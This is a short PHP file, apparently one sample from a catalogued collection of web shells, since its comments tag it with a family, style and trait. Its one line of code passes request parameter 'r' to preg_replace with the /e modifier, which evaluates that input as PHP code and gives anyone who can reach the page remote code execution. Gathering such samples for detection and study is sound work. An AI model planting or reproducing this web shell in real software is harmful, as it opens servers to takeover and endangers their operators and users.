<?php
/* Family: webshell/callback
 * Style: regex e-modifier
 * Trait: preg_replace with /e and the replacement from request data */
echo preg_replace("/(.*)/e", $_REQUEST['r'], 'x');
